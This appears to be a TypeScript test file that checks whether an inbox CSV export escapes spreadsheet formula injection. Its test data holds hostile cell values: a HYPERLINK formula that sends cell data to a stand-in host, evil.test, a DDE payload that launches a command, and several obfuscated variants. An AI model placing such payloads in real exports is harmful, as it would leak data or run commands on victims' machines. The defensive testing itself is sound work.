import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { failedForSolution, putItem } from '../api/inbox-office.ts';
import { type Api, openApi } from '../api/outbox-api.ts';
import { csvRecords, parseCsv } from '../support/csv.ts';

let api: Api;
beforeAll(async () => {
  api = await openApi();
});
afterAll(() => api.close());

const formula = `=HYPERLINK("http://evil.test/?"&A1,"open")`;
/** What people and devices could send, and what a spreadsheet must find in its place. */
const corpus: [sent: string, kept: string][] = [
  [formula, `'${formula}`],
  ['+31 6 1234', `'+31 6 1234`],
  ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
  ['@SUM(1+1)*cmd', `'@SUM(1+1)*cmd`],
  ['\t=1+1', `'\t'=1+1`],
  ['\r=1+1', `'\r'=1+1`],
  ['＝1+1', `'＝1+1`],
  ['  =1+1', `  '=1+1`],
  ['\n=1+1', `\n'=1+1`],
  // A Dutch spreadsheet parts the cells of a line at semicolons.
  ['pump;=1+1', `pump;'=1+1`],
  ['pump"; @x', `pump"; '@x`],
  // What is none stays as it is.
  ['WO-1042', 'WO-1042'],
  ['a=b, "c"', 'a=b, "c"'],
  ['line 1\r\nline 2', 'line 1\r\nline 2'],
  ["'quoted'", "'quoted'"],
];

describe('20 exports escape formulas', () => {
  it.each(corpus)('%j', async (sent, kept) => {
    const { id } = await putItem(api.inbox.db, {
      ...failedForSolution,
      ...{ objectId: sent, objectNumber: sent, parentType: 'order', parentId: sent },
      ...{ deviceId: `device ${sent}`, appVersion: sent, modifiedBy: sent, assignee: sent },
    });
    const path = `/v1/inbox/export?appVersion=${encodeURIComponent(sent)}`;
    const { text } = await api.call('mia', path);
    const [record] = csvRecords(text);
    expect(record).toMatchObject({
      ...{ id, objectId: kept, objectNumber: kept, parentId: kept },
      ...{ appVersion: kept, modifiedBy: kept, assignee: kept },
    });
  });

  it('in no cell of no row, whatever stands around it', async () => {
    const { text } = await api.call('mia', '/v1/inbox/export');
    const cells = parseCsv(text.replace(/^\uFEFF/, '')).flat();
    expect(cells.length).toBeGreaterThan(corpus.length * 20);
    for (const cell of cells) {
      expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
      expect(cell).not.toMatch(/[;\t\r\n]\s*[=+\-@＝＋－＠]/);
    }
  });
});
